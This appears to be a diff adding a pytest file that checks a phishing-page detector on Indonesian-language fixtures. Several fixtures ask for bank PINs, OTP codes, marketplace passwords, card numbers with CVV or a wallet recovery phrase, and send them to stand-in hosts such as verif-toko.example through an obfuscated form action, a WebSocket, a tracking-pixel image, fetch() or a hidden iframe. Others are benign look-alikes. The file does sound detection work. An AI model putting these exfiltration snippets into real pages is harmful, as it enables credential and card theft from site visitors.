@@ -1,0 +1,163 @@
+"""Forms that ask for what opens an account with somebody else, and those that only name it."""
+
+from __future__ import annotations
+
+import pytest
+
+from tests.checks.content.phishing_pages import judged
+from tests.checks.content.reading import site, small
+
+OFFICE = "Dinas Koperasi dan UKM Kabupaten Contoh"
+STRANGER = "https://verif-toko.example/sh/log.php"
+OBSCURE = "this.action=['https:/','/verif','.exam','ple/l.php'].join('')"
+
+
+def form(*labels: str, action: str = "", more: str = "", secret: bool = True) -> str:
+    """Return a form with a field for each label; the last one for a password."""
+    kinds = ["text"] * (len(labels) - 1) + ["password" if secret else "text"]
+    fields = "".join(
+        f'<label>{label}<input type="{kind}" name="f{n}"></label>'
+        for n, (label, kind) in enumerate(zip(labels, kinds, strict=True))
+    )
+    return f'<form method="post" action="{action}" {more}>{fields}<button>Kirim</button></form>'
+
+
+def loose(labels: str, script: str, title: str = OFFICE, heading: str = "") -> str:
+    """Return a page whose fields stand in no form, and its script."""
+    body = f"<h1>{heading or title}</h1><div>{labels}<button id=k>OK</button></div>"
+    return small(f"{body}<script>{script}</script>", title=title)
+
+
+def sent(how: str) -> str:
+    return f"k.onclick=function(){{{how}}}"
+
+
+WS = (
+    "var ws=new WebSocket('wss://live.penadah.example/v');"
+    "k.onclick=function(){ws.send(JSON.stringify({v:document.getElementById('o').value}))}"
+)
+PIXEL = sent(
+    "var q=[];['n','c'].forEach(function(i){q.push(i+'='+document.getElementById(i).value)});"
+    "new Image().src='//stat.balik-pajak.example/p.gif?'+q.join('&')"
+)
+FETCH = sent(
+    "fetch('https://wa-antre.example/kode',{method:'POST',"
+    "body:JSON.stringify({k:document.getElementById('o').value})})"
+)
+FRAME = sent(
+    "var i=document.createElement('iframe');i.style.display='none';"
+    "i.src='https://gerbang-sms.example/s?k='+escape(document.getElementById('o').value);"
+    "document.body.appendChild(i)"
+)
+OWN = sent("fetch('/api/masuk',{method:'POST',body:document.getElementById('o').value})")
+CODE = "<p>{}</p><input id=o>"
+CARD = "Nama di kartu<input id=m>Nomor kartu (16 digit)<input id=n>CVV<input id=c maxlength=3>"
+CREDIT = "Nomor kartu <input id=n autocomplete=cc-number> CVV <input id=c autocomplete=cc-csc>"
+
+GUILTY = {
+    "a marketplace's password, code and PIN, sent to pieces put together": (
+        site(form("Email Shopee", "Password Shopee", "Kode OTP", "PIN ShopeePay",
+                  more=f'onsubmit="{OBSCURE}"')), "posed"),
+    "a marketplace's password, kept here": (
+        site(form("Nama toko", "Kata sandi Tokopedia", action="/simpan.php")), "posed"),
+    "a bank's application's PIN": (site(form("Nomor HP", "PIN BRImo", action="/p")), "posed"),
+    "a game's password": (
+        site(form("ID (Server)", "Password Moonton", action="k.php")), "posed"),
+    "what the fields suggest": (
+        site('<form action="/p"><input placeholder="Username"><input type="password" '
+             'placeholder="Password Mobile Legends"></form>'), "posed"),
+    "a telephone company's code": (
+        site(form("Nomor HP", "Kode OTP MyTelkomsel", action="/p", secret=False)), "posed"),
+    "the same, for a stranger": (
+        site(form("Nomor HP", "Kode OTP Indosat", action=STRANGER, secret=False)), "lure"),
+    "a network's password, for a stranger": (
+        site(form("Email", "Password TikTok", action=STRANGER)), "lure"),
+    "the messenger's own PIN": (
+        loose("<p>PIN verifikasi dua langkah</p><input id=o type=password>", FETCH), "lure"),
+    "the messenger's own code": (
+        loose(CODE.format("Kami mengirim SMS berisi 6 angka dari WhatsApp. Masukkan:")
+              + "<input type=password>", FETCH), "lure"),
+    "the same in English": (
+        loose(CODE.format("Enter the 6 digits from WhatsApp") + "<input type=password>", FETCH,
+              "Contoh Tourism Office"), "lure"),
+    "data from every operator, over a socket": (
+        loose("<p>Telkomsel, Indosat, XL, Tri</p><input id=h>"
+               "<p>Kode OTP</p><input id=o>", WS, "Kuota 50GB Gratis"), "lure"),
+    "credit from all operators": (
+        loose("<p>Berlaku semua operator</p><input id=h><p>Kode OTP</p><input id=o>",
+              FETCH, "Pulsa 100 ribu gratis HUT Kabupaten"), "lure"),
+    "an operator's code that stands before a field in a later step": (
+        loose("<p>Nomor HP</p><input id=h><div style='display:none'><p>Masukkan kode OTP "
+              "MyTelkomsel 4-6 digit. JANGAN beritahu orang lain.</p><input name=otp id=o></div>",
+              WS, "Hadiah HUT"), "lure"),
+    "a card's code for tax that comes back, by a picture": (
+        loose(CARD, PIXEL, "Pengembalian Kelebihan Pajak", "Anda berhak atas pengembalian"),
+        "posed"),
+    "a card, by a picture, for nothing": (loose(CARD, PIXEL, "Formulir"), "chat"),
+    "a refund of tax in English": (
+        loose(CREDIT, OWN, "Tax refund", "You are entitled to a refund"), "posed"),
+    "a code that an unseen frame carries away": (
+        loose("<p>Kode SMS</p><input id=o name=kode>", FRAME), "chat"),
+    "a wallet's words, by an inline script": (
+        loose("<p>Buku tamu</p><div id=t></div>",
+              "t.innerHTML='<h3>Restore your wallet</h3><p>Type your 12-word Secret Recovery "
+              "Phrase.</p><form id=rw><input name=a></form>';" + FETCH.replace("'o'", "'a'")),
+        "lure"),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize(("source", "kind"), GUILTY.values(), ids=GUILTY.keys())
+def test_takes_what_is_somebody_else_s(source: str, kind: str) -> None:
+    assert judged(source).message == kind
+
+
+HONEST = {
+    "a password of the office's own": site(form("Nama pengguna", "Kata sandi", action="/p")),
+    "an e-mail address at Google": site(form("Email (Gmail)", "Kata sandi", action="/p")),
+    "a code of its own that comes by WhatsApp": site(
+        form("Nomor WhatsApp", "Kode OTP WhatsApp", action="/p", secret=False)),
+    "the same, checked by a rented server": loose(
+        CODE.format("Kami mengirim kode 6 angka lewat WhatsApp") + "<input type=password>", FETCH),
+    "a shop's name at a marketplace": site(
+        form("Nama toko di Shopee", "Tautan Tokopedia", action="/p", secret=False)),
+    "a nature reserve's PIN": site(form("Kode booking", "PIN BTN", action="/p")),
+    "a rubbish bank's password": site(form("No. nasabah", "Password BSI", action="/p")),
+    "a door's PIN": site(form("Ruang", "PIN pintu", action="/p")),
+    "how to pay, before the fee book's PIN": loose(
+        "<p>Bayar lewat BRImo: masukkan PIN BRImo lalu tekan OK.</p><p>PIN buku</p>"
+        "<input type=password id=o>", OWN),
+    "a warning beside a login": site(
+        "<p>Jangan pernah mengisi PIN BRImo pada laman ini.</p>"
+        + form("NIP", "Kata sandi", action="/p")),
+    "a lesson on false pages": small(
+        "<h1>Simulasi phishing untuk ASN</h1>" + form("User", "Password Shopee", action="/p"),
+        title="Literasi digital"),
+    "free WLAN by a firm's box": loose(
+        "<p>WiFi gratis, kuota 1 GB per hari</p><input id=h><p>Kode OTP</p><input id=o>", FETCH),
+    "free places for fifty, with a code": loose(
+        "<p>Khitanan gratis, kuota 50 anak</p><input id=h><p>Kode OTP</p><input id=o>", FETCH),
+    "which operator, for the office's own code": loose(
+        "<p>Operator: Telkomsel, Indosat, XL</p><input id=h><p>Kode OTP</p><input id=o>", OWN),
+    "a card in a shop that tells of refunds": loose(
+        CREDIT + "<p>Dana dikembalikan ke kartu bila pesanan batal; refund 14 hari.</p>", OWN,
+        "Toko Perumda Aneka Usaha"),
+    "a card for a gateway": loose(
+        CREDIT, sent("fetch('https://api.midtrans.com/v2/token?card_number='+n.value)")),
+    "tax that comes back into an account": site(
+        "<h2>Pengembalian kelebihan pajak</h2>"
+        + form("NPWPD", "Nama pemilik", "Nomor rekening", action="/p", secret=False)),
+    "a frame that shows what a number is about": loose(
+        "<p>Nomor resi</p><input id=o name=resi>", FRAME),
+    "a frame of a map": loose(
+        "<p>Kode SMS</p><input id=o name=kode>",
+        FRAME.replace("https://gerbang-sms.example/s?k=", "https://www.google.com/maps?q=")),
+    "a lesson on wallets": loose(
+        "<div id=t></div>",
+        "t.innerHTML='<p>Waspada: jangan ketik 12-word Secret Recovery Phrase di mana pun.</p>';"
+        + FETCH, "Literasi keuangan"),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("source", HONEST.values(), ids=HONEST.keys())
+def test_only_names_somebody_else(source: str) -> None:
+    assert judged(source).message in {"clean", "front", "outside"}
